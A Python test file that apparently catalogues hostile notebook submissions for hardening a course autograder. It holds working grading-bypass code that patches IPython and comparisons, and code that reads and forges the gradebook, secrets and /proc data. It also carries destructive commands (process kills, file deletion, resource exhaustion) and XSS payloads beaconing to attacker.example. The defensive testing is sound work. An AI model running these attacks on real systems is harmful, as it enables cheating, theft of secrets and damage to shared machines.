"""The catalogue of attacks: hostile submissions that have solved nothing.

Each entry changes an otherwise blank submission and expects zero points for every check
that the judge decides. The groups are those of the threat model; ``design`` holds what
an attacker would try who has read this autograder's own code.

Code that gets at something it should not see prints the word STOLEN (written in two
parts, so that the source does not contain it), and what would act in a browser calls
``pwned()`` or asks attacker.example.
"""

from __future__ import annotations

import base64
import json
import os
import socket
from collections.abc import Callable
from pathlib import Path

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

from tests.attacks.attack import (
    ANSWERS,
    CHANNEL,
    COMPARING,
    DESIGN,
    FORGING,
    HARMING,
    HOST,
    LEAKING,
    MACHINE,
    MALFORMED,
    REWRITING,
    STEALING,
    Attack,
    both,
    cells_named,
)
from tests.attacks.course import (
    COMPANIONS,
    INSIDE,
    MASK,
    NOTEBOOK,
    PORT,
    READ,
    SCORES,
    UNIT,
    grade_id,
)
from tests.attacks.seams import SEAMS

# --- rewriting what runs -------------------------------------------------------------

SHELL = "ip = get_ipython()\n"

# fmt: off
BANK: list[Attack] = [
    Attack(REWRITING, "input transformer", before=SHELL + """
ip.input_transformers_cleanup.append(
    lambda lines: ["5.0"] if any("check" in line for line in lines) else lines)
"""),
    Attack(REWRITING, "syntax tree transformer", before=SHELL + """
import ast
class Full(ast.NodeTransformer):
    def visit_Call(self, node):
        return ast.Constant(5.0) if "check" in ast.unparse(node.func) else node
ip.ast_transformers.append(Full())
"""),
    Attack(REWRITING, "kernel execute replaced", before=SHELL + """
async def nothing(*a, **k):
    return {"status": "ok", "execution_count": 1, "payload": [],
            "user_expressions": {}}
ip.kernel.do_execute = nothing
"""),
    Attack(REWRITING, "run cell replaced", before=SHELL + """
from IPython.core.interactiveshell import ExecutionInfo, ExecutionResult
async def run(raw_cell, *a, **k):
    return ExecutionResult(ExecutionInfo(raw_cell, False, True, False, ""))
ip.run_cell_async = run
"""),
    Attack(REWRITING, "run code replaced", before=SHELL + """
async def run(code_obj, result=None, *, async_=False):
    return False
ip.run_code = run
"""),
    Attack(REWRITING, "compile replaced", before=SHELL + """
import codeop
old = ip.compile.__class__.__call__
def compiled(self, source, filename, symbol, **k):
    import ast
    if "check" in ast.unparse(source):
        source = ast.parse("5.0", mode="single") if symbol == "single" else source
        source = ast.Interactive(ast.parse("5.0").body)
    return old(self, source, filename, symbol, **k)
ip.compile.__class__.__call__ = compiled
"""),
    Attack(REWRITING, "display hook replaced", before=SHELL + """
ip.display_formatter.format = lambda *a, **k: ({"text/plain": "5.0"}, {})
"""),
    Attack(REWRITING, "hook before each cell", before=SHELL + """
class Full:
    def __call__(self, *a): return 5.0
    hidden = __call__
ip.events.register("pre_run_cell", lambda *a: ip.user_ns.update(check=Full()))
"""),
    Attack(REWRITING, "check redefined", answers=both("""
class check:
    hidden = staticmethod(lambda *a: 5.0)
    def __new__(cls, *a): return 5.0
dot_product_scores = causal_mask = None
""")),
    Attack(REWRITING, "errors swallowed", before=SHELL + """
ip.showtraceback = lambda *a, **k: None
ip.set_custom_exc((BaseException,), lambda *a, **k: [])
ip.display_formatter.format = lambda *a, **k: ({}, {})
"""),
    Attack(REWRITING, "exit with success", before="import os\nos._exit(0)"),
    Attack(REWRITING, "skipping tags", change=lambda nb: [
        cell.metadata.update(tags=["skip-execution", "raises-exception"])
        for cell in nb.cells]),
    Attack(REWRITING, "tests as markdown", change=lambda nb: [
        cell.update(cell_type="markdown") for cell in cells_named(nb, SCORES, MASK)]),
    Attack(REWRITING, "tests edited", change=lambda nb: [
        cell.update(source="5.0") for cell in cells_named(nb, SCORES, MASK)]),
    Attack(REWRITING, "tests deleted", change=lambda nb: nb.update(
        cells=[c for c in nb.cells if grade_id(c) not in (SCORES, MASK, INSIDE)])),
    Attack(REWRITING, "trace function jumps", before="""
import sys
def trace(frame, event, arg):
    if frame.f_code.co_name == "hidden" and event == "return":
        frame.f_locals["verdict"] = 5.0
    return trace
sys.settrace(trace)
"""),
    # --- patching what compares ------------------------------------------------------
    Attack(COMPARING, "allclose always true", before="""
import torch
torch.allclose = torch.equal = lambda *a, **k: True
torch.isclose = lambda a, b, **k: torch.ones(a.shape, dtype=torch.bool)
torch.testing.assert_close = lambda *a, **k: None
def dot_product_scores(q, k): return torch.zeros(len(q), len(k))
def causal_mask(n): return torch.ones(n, n)
""", answers={SCORES: "pass", MASK: "pass"}),
    Attack(COMPARING, "tensor methods patched", before="""
import torch
torch.Tensor.__eq__ = torch.Tensor.__ne__ = lambda a, b: a == a if 0 else False
torch.Tensor.any = lambda *a, **k: False
torch.Tensor.all = lambda *a, **k: True
""", answers={
        SCORES: "def dot_product_scores(q, k): return torch.zeros(len(q), len(k))",
        MASK: "def causal_mask(n): return torch.zeros(n, n, dtype=torch.bool)"}),
    Attack(COMPARING, "always equal object", answers=both("""
class Equal:
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __bool__ = lambda self: True
    __hash__ = lambda self: 0
    __getattr__ = lambda self, name: self
    __call__ = lambda self, *a, **k: self
dot_product_scores = causal_mask = Equal()
""")),
    Attack(COMPARING, "tensor subclass agrees", answers=both("""
class Agreeing(torch.Tensor):
    @classmethod
    def __torch_function__(cls, f, types, args=(), kwargs=None):
        if getattr(f, "__name__", "") in ("isclose", "eq", "ne", "allclose"):
            return torch.ones((), dtype=torch.bool)
        return super().__torch_function__(f, types, args, kwargs or {})
def dot_product_scores(q, k):
    return torch.zeros(len(q), len(k)).as_subclass(Agreeing)
def causal_mask(n):
    return torch.zeros(n, n, dtype=torch.bool).as_subclass(Agreeing)
""")),
    Attack(COMPARING, "comparison replaced", before="""
from autograder.student import check as c, compare
compare.same_values = lambda *a: True
compare._problem = lambda *a: ("", "")
compare._finding = lambda name, e, a, case: compare.Finding(name, "")
""", answers={SCORES: "def dot_product_scores(q, k): return q",
              MASK: "def causal_mask(n): return torch.ones(n, n)"}),
    Attack(COMPARING, "verdict always full", before="""
from autograder.student.exercise import Verdict
Verdict.__repr__ = lambda self: repr(float(self.max_points))
Verdict.passed = property(lambda self: True)
"""),
    Attack(COMPARING, "references replaced", before="""
from autograder.student import references
from dataclasses import replace
old = references.load
def load(*a, **k):
    return {n: replace(e, cases=tuple(replace(c, expected={}) for c in e.cases))
            for n, e in old(*a, **k).items()}
references.load = load
""", answers={SCORES: "def dot_product_scores(q, k): return q",
              MASK: "def causal_mask(n): return torch.ones(n, n)"}),
    Attack(COMPARING, "arithmetic of points patched", before="""
import builtins
builtins.round = lambda *a: 5.0
builtins.sum = lambda *a: 9.0
from autograder.student import compare
compare.compare = lambda case, answers: compare.CaseResult(case, answers, (), 1.0)
"""),
    Attack(COMPARING, "probe replaced", before="""
from autograder.student import probes
probes.find("attention/scores")
for name in list(probes._PROBES):
    probes._PROBES[name] = lambda f, inputs: dict(inputs)
from autograder.student.exercise import CaseResult
CaseResult.passed = property(lambda self: True)
"""),
    Attack(COMPARING, "stub note removed", before="""
from autograder.student import check as module, exercise
class Full(exercise.Verdict):
    __repr__ = lambda self: "5.0"
type(module.check)._verdict = lambda *a: Full("x", "x", 5.0, 5.0)
type(module.check)._show = staticmethod(lambda verdict: verdict)
"""),
    # --- stealing the answer ---------------------------------------------------------
    Attack(STEALING, "hidden references", before="""
from autograder.student import references
from autograder.student.observe import plain
table = {}
for kind in ("public", "hidden"):
    try:
        unit = references.load("attention", kind)
        if kind == "hidden": print("STO" "LEN", kind)
    except Exception:
        continue
    for case in unit["attention/scores"].cases:
        key = tuple(case.inputs["q"].flatten().tolist())
        table[key] = case.expected["scores"]
    for case in unit["attention/causal_mask"].cases:
        for name, value in case.expected.items():
            table[name] = value
""", answers={
        SCORES: "def dot_product_scores(q, k): "
                "return table[tuple(q.flatten().tolist())]",
        MASK: "def causal_mask(n): "
              "return table[f'mask of {n}'] if n > 41 else torch.ones(n, n) > 2"}),
    Attack(STEALING, "reference solution imported", answers={
        SCORES: "from autograder.solutions.attention import dot_product_scores",
        MASK: "from autograder.solutions.attention import causal_mask"}),
    Attack(STEALING, "reference solution by the bank", before="""
try:
    from autograder.bank import specifications
    from autograder.oracle.variants import build_object
    for exercise in specifications("attention"):
        globals()[exercise.target] = build_object(exercise)
    print("STO" "LEN bank")
except ImportError:
    dot_product_scores = causal_mask = None
""", answers=both("pass")),
    Attack(STEALING, "course folder searched", before="""
import glob, json, os, re
places = [os.getcwd()]
while places[-1] != "/": places.append(os.path.dirname(places[-1]))
for place in places + glob.glob("/proc/*/cwd"):
    for name in (glob.glob(place + "/source/*/*.ipynb")
                 + glob.glob(place + "/submitted/*/*/*.ipynb")):
        for cell in json.load(open(name))["cells"]:
            text = "".join(cell["source"])
            if re.match("def (dot_product_scores|causal_mask)", text):
                if "NotImplemented" not in text:
                    print("STO" "LEN", name)
                    exec(text)
""", answers=both("pass")),
    Attack(STEALING, "roster and secret read", before="""
import glob, os
for up in ("..", "../..", "../../..", "../../../.."):
    for name in ("roster.csv", ".autograder/secret", "gradebook.db",
                 "nbgrader_config.py"):
        try:
            print("STO" "LEN", open(os.path.join(up, name), "rb").read(40))
        except OSError as error:
            pass
"""),
    Attack(STEALING, "solutions in the gradebook", before="""
import sqlite3, glob, os
for up in ("..", "../..", "../../.."):
    path = os.path.join(up, "gradebook.db")
    if os.path.exists(path):
        print("STO" "LEN a gradebook")
        for (text,) in sqlite3.connect(path).execute("select source from source_cell"):
            if "SOLUTION" in text: exec(text)
""", answers=both("pass")),
    Attack(STEALING, "links to the course", folder=lambda folder: [
        (folder / name).symlink_to(target) for name, target in {
            "source": "../../../source", "roster.csv": "../../../roster.csv",
            "other": f"../../{COMPANIONS[0]}", "root": "/", "secret":
            "../../../.autograder/secret"}.items()], before="""
import os
for name in ("source", "roster.csv", "other", "root", "secret"):
    if os.path.exists(name):
        print("STO" "LEN", name, open(name).read() if os.path.isfile(name) else "")
"""),
    Attack(STEALING, "stack frames", answers=both("""
import sys
def expected():
    frame = sys._getframe()
    while frame:
        for value in list(frame.f_locals.values()):
            if type(value).__name__ == "Case":
                return iter(value.expected.values())
        frame = frame.f_back
def dot_product_scores(q, k): return next(expected())
masks = None
def causal_mask(n):
    global masks
    masks = masks or expected()
    try: return next(masks)
    except StopIteration:
        masks = expected()
        return next(masks)
""")),
    Attack(STEALING, "objects of the collector", answers=both("""
import gc
def found(shape, kind):
    for value in gc.get_objects():
        if type(value).__name__ == "Case":
            for answer in value.expected.values():
                if getattr(answer, "shape", None) == shape and answer.dtype == kind:
                    return answer
def dot_product_scores(q, k):
    for value in gc.get_objects():
        if type(value).__name__ == "Case" and "q" in value.inputs:
            if torch.Tensor.equal(value.inputs["q"], q): return value.expected["scores"]
def causal_mask(n): return found((n, n), torch.bool)
""")),
    Attack(STEALING, "modules of the grader", before="""
import sys
seen = [m for m in sys.modules if m.startswith(("autograder.grading.",
        "autograder.bank", "autograder.solutions", "nbgrader"))]
if seen: print("STO" "LEN", seen)
"""),
    Attack(STEALING, "shadowing packages", files={
        "torch.py": b"raise ImportError",
        "autograder/__init__.py": b"class C:\n    __call__ = hidden = "
        b"lambda *a: 5.0\ncheck = C()\n",
        "sitecustomize.py": b"raise SystemExit",
        "usercustomize.py": b"import os; os._exit(0)"}, answers=both("")),
    Attack(STEALING, "start-up files", files={
        name: b"get_ipython().display_formatter.format = lambda *a, **k: "
        b"({'text/plain': '5.0'}, {})\n" for name in (
            ".ipython/profile_default/startup/00.py", "ipython_config.py",
            "ipython_kernel_config.py", "startup/00.py")},
        before="%load_ext autoreload"),
    Attack(STEALING, "processes of the grader", before="""
import glob, os, re
for name in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try: text = open(name, "rb").read()
    except OSError: continue
    if b"COURSE_TOKEN" in text or b"nbgrader" in text or b"judge" in text:
        print("STO" "LEN", name, text[:100])
for name in glob.glob("/proc/[0-9]*/mem"):
    if name.split("/")[2] not in (str(os.getpid()), "self"):
        try: open(name, "rb"); print("STO" "LEN memory", name)
        except OSError: pass
"""),
    Attack(STEALING, "package files", before="""
import autograder, glob, os
root = os.path.dirname(autograder.__file__)
for kind in ("references/hidden/*", "grading/*.py", "solutions/attention*",
             "../source/*/*", "../notebooks/*", "../.git/HEAD"):
    for name in glob.glob(os.path.join(root, kind)):
        try: print("STO" "LEN", name, len(open(name, "rb").read()))
        except OSError: pass
"""),
    Attack(STEALING, "visible references by heart", before="""
from autograder.student import references
table = {}
for case in references.load("attention")["attention/scores"].cases:
    table[str(case.inputs["q"].tolist())] = case.expected["scores"]
""", answers={SCORES: "def dot_product_scores(q, k): return table[str(q.tolist())]"}),
    # --- forging the record ----------------------------------------------------------
    Attack(FORGING, "gradebook written", before="""
import os, sqlite3
for up in ("..", "../..", "../../..", "../../../.."):
    path = os.path.join(up, "gradebook.db")
    if os.path.exists(path):
        book = sqlite3.connect(path)
        book.execute("update grade set manual_score = 5")
        book.commit()
"""),
    Attack(FORGING, "trigger in the gradebook", before="""
import os, sqlite3
for up in ("..", "../..", "../../..", "../../../.."):
    path = os.path.join(up, "gradebook.db")
    if os.path.exists(path):
        book = sqlite3.connect(path)
        book.execute("create trigger full after update on grade begin update grade "
                     "set extra_credit = 5 where id = new.id; end")
        book.commit()
"""),
    Attack(FORGING, "process that outlives", before="""
import os, sqlite3, subprocess, sys, textwrap
code = textwrap.dedent('''
    import os, sqlite3, time
    root = os.path.abspath("../../..")
    for i in range(60):
        time.sleep(1)
        path = os.path.join(root, "gradebook.db")
        if os.path.exists(path):
            book = sqlite3.connect(path, timeout=1)
            book.execute("update grade set manual_score = 5")
            book.commit()
''')
subprocess.Popen([sys.executable, "-c", code], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        exec(code)
    os._exit(0)
"""),
    Attack(FORGING, "forged result", answers=both("""
def forge(*a):
    ip = get_ipython()
    ip.kernel.session.send(ip.kernel.iopub_socket, "execute_result", {"data":
        {"text/plain": "5.0"}, "metadata": {}, "execution_count": 1},
        parent=ip.kernel.get_parent("shell"))
dot_product_scores = causal_mask = forge
""")),
    Attack(FORGING, "credit too large", before="""
class Full:
    def __call__(self, *a): return 10.0 ** 9
    hidden = __call__
get_ipython().events.register("pre_run_cell",
    lambda *a: get_ipython().user_ns.update(check=Full()))
"""),
    *(Attack(FORGING, f"credit {name}", before=f"""
class Full:
    def __call__(self, *a): return {value}
    hidden = __call__
get_ipython().events.register("pre_run_cell",
    lambda *a: get_ipython().user_ns.update(check=Full()))
""") for name, value in (("not a number", "float('nan')"), ("infinite",
      "float('inf')"), ("a text", "'full marks'"), ("negative", "-1.0"))),
    Attack(FORGING, "silence is full marks", before="""
class Silent:
    def __call__(self, *a): return None
    hidden = __call__
get_ipython().events.register("pre_run_cell",
    lambda *a: get_ipython().user_ns.update(check=Silent()))
"""),
    Attack(FORGING, "points in the metadata", change=lambda nb: [
        cell.metadata.nbgrader.update(points=1000.0) for cell in nb.cells
        if grade_id(cell)]),
    Attack(FORGING, "records in the metadata", change=lambda nb: nb.metadata.update(
        autograder={"checks": {SCORES: {"exercise": "attention/scores", "points": 5.0,
                    "max_points": 5.0, "cases": []}}, "digest": "x",
                    "scores": {SCORES: 5.0, MASK: 6.0}})),
    Attack(FORGING, "stored verdicts", change=lambda nb: [
        cell.update(execution_count=1, outputs=[new_output(
            "execute_result", {"text/plain": "5.0", "text/html": "<b>5 of 5</b>"},
            metadata={"autograder": "verdict"}, execution_count=1)])
        for cell in cells_named(nb, SCORES, MASK)]),
    Attack(FORGING, "exercises of its own", change=lambda nb: nb.cells.extend(
        _cell_with("5.0", f"extra-{n}", 50.0) for n in range(3))),
    Attack(FORGING, "points for an empty answer", change=lambda nb: [
        cell.metadata.nbgrader.update(grade=True, points=5.0, locked=False)
        for cell in cells_named(nb, f"{SCORES}-answer", f"{MASK}-answer")]),
    Attack(FORGING, "autograded folder written", before="""
import os
for up in ("..", "../..", "../../.."):
    for step in ("autograded", "feedback", "source", "release", "submitted"):
        try:
            os.makedirs(os.path.join(up, step, "mallory", "02_attention"))
            open(os.path.join(up, step, "mallory.txt"), "w").write("5.0")
        except OSError: pass
"""),
    Attack(FORGING, "files named like results", files={
        "autograded/x.ipynb": b"{}", "gradebook.db": b"SQLite format 3\0",
        "nbgrader_config.py": b"raise SystemExit('pwned')",
        "submission_secret.txt": b"../../../x"}),
    Attack(FORGING, "time from the future", files={
        "timestamp.txt": b"2999-01-01 00:00:00 UTC"}),
    Attack(FORGING, "time that is none", files={"timestamp.txt": b"\xff" * 90}),
    Attack(FORGING, "check in a cell to be read", answers={
        READ: 'check("attention/scores", lambda q, k: q @ k.T)'}),
    # --- harming others --------------------------------------------------------------
    Attack(HARMING, "parent killed", harms=HOST, before="""
import os, signal
for pid in (os.getppid(), -1, 1, 0):
    try: os.kill(pid, signal.SIGKILL)
    except OSError: pass
"""),
    Attack(HARMING, "parent stopped", harms=HOST, before="""
import os, signal
for pid in (os.getppid(), 1):
    try: os.kill(pid, signal.SIGSTOP)
    except OSError: pass
os.kill(os.getpid(), signal.SIGSTOP)
"""),
    Attack(HARMING, "gradebook locked", before="""
import os, sqlite3
for up in ("..", "../..", "../../.."):
    path = os.path.join(up, "gradebook.db")
    if os.path.exists(path):
        book = sqlite3.connect(path)
        book.execute("begin exclusive")
        if os.fork() == 0:
            import time; time.sleep(30); os._exit(0)
"""),
    Attack(HARMING, "course overwritten", harms=MACHINE, before="""
import glob, os, shutil
for up in ("..", "../..", "../../.."):
    for name in glob.glob(up + "/*"):
        try:
            shutil.rmtree(name) if os.path.isdir(name) else open(name, "w")
        except OSError: pass
"""),
    Attack(HARMING, "memory filled", harms=MACHINE, before="""
held = []
while True: held.append(bytearray(64 << 20))
"""),
    Attack(HARMING, "memory filled by many", harms=MACHINE, before="""
import os, time
for i in range(6):
    if os.fork() == 0:
        held = bytearray(b"x") * (300 << 20)
        time.sleep(20)
        os._exit(0)
time.sleep(3)
"""),
    Attack(HARMING, "disk filled", harms=MACHINE, before="""
n = 0
while True:
    with open(f"part{n}", "wb") as file: file.write(bytes(8 << 20))
    n += 1
"""),
    Attack(HARMING, "many processes", harms=MACHINE, before="""
import os, time
for i in range(200):
    if os.fork() == 0:
        time.sleep(30)
        os._exit(0)
"""),
    Attack(HARMING, "many threads", harms=MACHINE, before="""
import threading, time
for i in range(400): threading.Thread(target=time.sleep, args=(30,)).start()
"""),
    Attack(HARMING, "files kept open", before="""
held = []
while len(held) < 100_000: held.append(open("/dev/null"))
"""),
    Attack(HARMING, "endless and deaf", before="""
import signal
for n in (signal.SIGINT, signal.SIGTERM): signal.signal(n, signal.SIG_IGN)
while True:
    try:
        while True: pass
    except BaseException: pass
"""),
    Attack(HARMING, "prints without end", harms=MACHINE, before="""
import time
end = time.monotonic() + 4
while time.monotonic() < end: print("x" * 10_000)
"""),
    Attack(HARMING, "one huge output", harms=MACHINE, before="""
print("x" * (80 << 20))
"""),
    Attack(HARMING, "crash in C", before="import ctypes\nctypes.string_at(0)"),
    Attack(HARMING, "all descriptors closed",
           before="import os\nos.closerange(0, 4096)"),
    Attack(HARMING, "input is asked for", before="""
answer = input("Your password? ")
import getpass
getpass.getpass()
"""),
    Attack(HARMING, "hangs at the end", before="""
import atexit, time
class Sticky:
    def __del__(self): time.sleep(60)
keep = Sticky()
atexit.register(time.sleep, 60)
"""),
    Attack(HARMING, "kernel asked to restart", before="""
ip = get_ipython()
ip.kernel.do_shutdown(True)
ip.ask_exit(); ip.kernel.shell.exit_now = True
quit()
"""),
    # --- leaking ---------------------------------------------------------------------
    Attack(LEAKING, "environment printed", before="""
import os, subprocess
print(dict(os.environ))
print(subprocess.run("env; id; cat /etc/passwd; ls -la / /home; cat /proc/1/environ",
                     shell=True, capture_output=True, text=True).stdout)
"""),
    Attack(LEAKING, "hidden asserts printed", after="""
print(In)
import linecache
print(linecache.cache.values())
""", answers={INSIDE: "def double(x):\n    if x < 0: raise ValueError(In[-1])\n"
                      "    return 4"}),
    Attack(LEAKING, "network", before=f"""
import socket, urllib.request
for host in ("127.0.0.1", "localhost", "::1", "0.0.0.0"):
    try:
        socket.create_connection((host, {PORT}), timeout=1).send(b"hello")
        print("STO" "LEN a connection")
    except OSError: pass
try: urllib.request.urlopen("http://attacker.example", timeout=1)
except Exception: pass
"""),
    Attack(LEAKING, "script in an output", before="""
from IPython.display import HTML, SVG, Javascript, display, Markdown
display(HTML("<script>pwned()</script><img src=x onerror=pwned()>"
             "<svg onload=pwned()><iframe srcdoc='<script>pwned()</script>'></iframe>"
             "<a href='javascript:pwned()'>x</a><form action=https://attacker.example>"
             "<style>@import 'https://attacker.example/x.css';</style>"
             "<div style='background:url(https://attacker.example/x)'>x</div>"
             "<img src='https://attacker.example/beacon.png'>"
             "<details open ontoggle=pwned()>x</details>"
             "<math><mtext><style><img src=x onerror=pwned()></style></mtext></math>"))
display(Javascript("pwned()"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='pwned()'>"
            "<script>pwned()</script></svg>"))
display(Markdown("<script>pwned()</script> [x](javascript:pwned()) "
                 "![x](https://attacker.example/x.png)"))
"""),
    Attack(LEAKING, "script in a text cell", change=lambda nb: nb.cells.insert(
        1, new_markdown_cell(
            "<script>pwned()</script>\n\n<img src=x onerror=pwned()>\n\n"
            "[x](javascript:pwned()) ![x](https://attacker.example/x.png)\n\n"
            "$\\href{javascript:pwned()}{x}$ <svg/onload=pwned()>\n\n"
            "{{ config }} {% raw %} <meta http-equiv=refresh content=0>"))),
    Attack(LEAKING, "script in a raw cell", change=lambda nb: nb.cells.insert(
        1, NotebookNode(cell_type="raw", metadata={"format": "text/html"},
                        source="<script>pwned()</script>", id="raw"))),
    Attack(LEAKING, "script in streams and errors", before="""
import sys
print("</pre><script>pwned()</script>\\x1b[31m<img src=x onerror=pwned()>\\x1b]8;;x")
print("<script>pwned()</script>", file=sys.stderr)
class Bad(Exception): pass
Bad.__name__ = Bad.__qualname__ = "<script>pwned()</script>"
raise Bad("</pre><img src=x onerror=pwned()>")
"""),
    Attack(LEAKING, "script in a panel", answers={
        SCORES: "def dot_product_scores(q, k):\n"
                "    return type('<script>pwned()</script>', (), {})()",
        MASK: "def causal_mask(n):\n    raise ValueError("
              "'<img src=x onerror=pwned()> `<script>pwned()</script>`')"}),
    Attack(LEAKING, "script under a verdict's mark", answers={INSIDE: """
from IPython.display import publish_display_data
def double(x):
    publish_display_data({"text/html": "<script>pwned()</script>",
        "text/plain": "2.0"}, {"autograder": "verdict"})
    return 4
"""}),
    Attack(LEAKING, "script in attachments", change=lambda nb: nb.cells.insert(
        1, NotebookNode(
            cell_type="markdown", id="a", metadata={},
            source="![x](attachment:x.svg) ![\"onerror=pwned()](attachment:y.png)",
            attachments={
                "x.svg": {"image/svg+xml": "<svg onload='pwned()'/>",
                          "text/html": "<script>pwned()</script>"},
                "y.png": {"image/png": "x' onerror='pwned()"}}))),
    Attack(LEAKING, "widgets with script", change=lambda nb: nb.metadata.update(
        widgets={"application/vnd.jupyter.widget-state+json": {"state": {"a": {
            "model_name": "HTMLModel", "state": {
                "value": "<script>pwned()</script>"}}}}}), before="""
from IPython.display import publish_display_data
publish_display_data({"application/vnd.jupyter.widget-view+json": {"model_id": "a"},
                      "application/vnd.bokehjs_exec.v0+json": "pwned()",
                      "text/plain": "<script>pwned()</script>"})
"""),
    Attack(LEAKING, "fresh inputs printed", after="print(seen)", answers={
        SCORES: "seen = []\ndef dot_product_scores(q, k):\n    seen.append((q, k))\n"
                "    print(q)\n    return q",
        MASK: "def causal_mask(n):\n    seen.append(n)\n    return n"}),
    # --- hostile answers -------------------------------------------------------------
    *(Attack(ANSWERS, name, answers={
        SCORES: f"def dot_product_scores(q, k):\n    shape = (len(q), len(k))\n{body}",
        MASK: f"def causal_mask(n):\n    shape = (n, n)\n{body}",
    }) for name, body in (
        ("huge tensor", "    return torch.zeros(1).expand(12_000, 9_000)"),
        ("not a number everywhere", "    return torch.full(shape, float('nan'))"),
        ("infinite everywhere", "    return torch.full(shape, float('inf'))"),
        ("zero sizes", "    return torch.zeros(0, 5, 0, 1 << 20)"),
        ("no dimensions", "    return torch.tensor(True)"),
        ("many dimensions", "    return torch.zeros((1,) * 60)"),
        ("meta tensor", "    return torch.zeros(shape, device='meta')"),
        ("sparse tensor", "    return torch.zeros(shape).to_sparse()"),
        ("complex tensor", "    return torch.zeros(shape, dtype=torch.complex64)"),
        ("quantised tensor", "    return torch.quantize_per_tensor("
         "torch.zeros(shape), 0.1, 0, torch.qint8)"),
        ("generator without end", "    return iter(int, 1)"),
        ("deep list", "    x = []\n    for _ in range(100_000): x = [x]\n    return x"),
        ("huge text", "    return 'x' * (30 << 20)"),
        ("half a character", "    raise ValueError('\\ud800 half a character')"),
        ("exits", "    raise SystemExit(0)"),
        ("interrupts", "    raise KeyboardInterrupt"),
        ("slow", "    import time\n    time.sleep(2.5)\n    return torch.zeros(shape)"),
        ("hangs deaf", "    while True:\n        try:\n            while True: pass\n"
         "        except BaseException: pass"),
        ("recursion without end", "    return (lambda f: f(f))(lambda f: f(f))"),
    )),
    Attack(ANSWERS, "error without words", answers=both("""
class Mute(Exception):
    def __str__(self): raise Mute
    __repr__ = __str__
def dot_product_scores(*a): raise Mute
causal_mask = dot_product_scores
""")),
    Attack(ANSWERS, "subclass takes over", answers=both("""
class Sly(torch.Tensor):
    @classmethod
    def __torch_function__(cls, f, types, args=(), kwargs=None):
        return "5.0"
    def detach(self): return self
    def as_subclass(self, kind): return self
def dot_product_scores(q, k): return torch.zeros(len(q), len(k)).as_subclass(Sly)
def causal_mask(n): return torch.zeros(n, n).as_subclass(Sly)
""")),
    Attack(ANSWERS, "class that lies", answers=both("""
class Liar:
    __class__ = property(lambda self: torch.Tensor)
    def __getattr__(self, name): raise SystemExit
dot_product_scores = causal_mask = lambda *a: Liar()
""")),
    Attack(ANSWERS, "expression raises", answers=both(
        "class Meta(type):\n    def __call__(cls, *a): raise SystemExit\n"
        "class dot_product_scores(metaclass=Meta): pass\ncausal_mask = ...")),
    Attack(ANSWERS, "names deleted", answers=both("del torch, check, math")),
]


def _cell_with(source: str, name: str, points: float) -> NotebookNode:
    marks = {"grade": True, "grade_id": name, "locked": False, "points": points,
             "schema_version": 3, "solution": False, "task": False}
    return new_code_cell(source, metadata={"nbgrader": marks})


# --- malformed submissions -----------------------------------------------------------


def _replaced(content: bytes) -> Callable[[bytes], bytes]:
    return lambda _: content


def _socket_at(path: Path) -> None:
    with socket.socket(socket.AF_UNIX) as server:
        here = os.open(path.parent, os.O_RDONLY)
        server.bind(f"/proc/self/fd/{here}/{path.name}")
        os.close(here)


def _instead(make: Callable[[Path], None]) -> Callable[[Path], None]:
    """Put something else in the place of the notebook."""

    def put(folder: Path) -> None:
        (folder / NOTEBOOK).unlink()
        make(folder / NOTEBOOK)

    return put


def _sparse(path: Path, size: int) -> None:
    with path.open("wb") as file:
        file.truncate(size)


def _link_folder(folder: Path) -> None:
    (folder / NOTEBOOK).unlink()
    folder.rmdir()
    folder.symlink_to(f"../../source/{UNIT}")


def _renamed_marks(nb: NotebookNode) -> None:
    swap = {SCORES: MASK, MASK: SCORES, f"{SCORES}-answer": f"{MASK}-answer"}
    for cell in nb.cells:
        if grade_id(cell) in swap:
            cell.metadata.nbgrader.grade_id = swap[grade_id(cell)]


def _without_marks(nb: NotebookNode) -> None:
    for number, cell in enumerate(nb.cells):
        cell.metadata.pop("nbgrader", None)
        cell.id = f"course-{number}" if number % 2 else "own-1"


def _old(data: bytes) -> bytes:
    notebook = json.loads(data)
    cells = [{**cell, "input": cell.pop("source")} for cell in notebook["cells"]]
    return json.dumps({"nbformat": 3, "nbformat_minor": 0, "metadata": {},
                       "worksheets": [{"cells": cells}]}).encode()


def _odd_types(data: bytes) -> bytes:
    notebook = json.loads(data)
    values = (5, None, [[]], {"a": 1}, True)
    for cell, odd in zip(notebook["cells"], values, strict=False):
        cell.update(source=odd, metadata=odd, outputs=odd, id=odd, cell_type=odd)
    notebook["metadata"] = {"kernelspec": [], "language_info": {"name": {}}}
    return json.dumps(notebook).encode()


BANK += [
    *(Attack(MALFORMED, name, data=data) for name, data in (
        ("cut off", lambda data: data[: len(data) // 2]),
        ("empty", _replaced(b"")),
        ("a picture", _replaced(b"\x89PNG\r\n\x1a\n" + bytes(2000))),
        ("a list", _replaced(b"[1, 2, 3]")),
        ("null", _replaced(b"null")),
        ("no cells", _replaced(b'{"nbformat": 4, "metadata": {}}')),
        ("cells of another type", _replaced(b'{"nbformat": 4, "cells": {"a": 1}}')),
        ("values of odd types", _odd_types),
        ("format three", _old),
        ("format ninety-nine", lambda data: data.replace(
            b'"nbformat": 4', b'"nbformat": 99')),
        ("deep", _replaced(b'{"cells": ' + b"[" * 100_000 + b"]" * 100_000 + b"}")),
        ("huge number", _replaced(b'{"nbformat": ' + b"9" * 1_000_000 + b"}")),
        ("sixteen bits", lambda data: data.decode().encode("utf-16")),
        ("not text", lambda data: data.replace(b"Two", b"\xff\xfe\xed\xa0\x80")),
        ("zeros inside", lambda data: data.replace(b"Two", b"\\u0000\\ud800")),
        ("repeated keys", lambda data: data[:-1] + b', "cells": []}'),
    )),
    Attack(MALFORMED, "four million objects", harms=MACHINE, data=_replaced(
        b'{"nbformat": 4, "cells": [' + b"{}," * 4_000_000 + b"{}]}")),
    Attack(MALFORMED, "no cell left", change=lambda nb: nb.update(cells=[])),
    Attack(MALFORMED, "marks swapped", change=_renamed_marks, answers={
        SCORES: "def causal_mask(n): return torch.ones(n, n)"}),
    Attack(MALFORMED, "marks removed and ids that collide", change=_without_marks),
    Attack(MALFORMED, "every cell ten times", change=lambda nb: nb.update(
        cells=[cell for cell in nb.cells for _ in range(10)])),
